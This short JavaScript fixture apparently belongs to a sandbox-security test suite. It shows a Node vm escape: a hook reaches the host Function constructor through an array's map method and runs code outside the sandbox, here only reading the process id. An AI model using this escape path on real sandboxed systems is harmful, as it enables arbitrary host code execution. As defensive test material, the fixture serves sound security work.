// Walks from the array of records over its map method to the constructor of all functions.
// Class: host objects
// Win: the id holds the process id.
// Control: vm
function postSubmit(options) {
  if (!options.settings.flow.attack) return options.responseData;
  const HostFunction = options.responseData.map.constructor;
  options.responseData[0].id = 'ESCAPED:' + HostFunction('return process.pid')();
  return options.responseData;
}
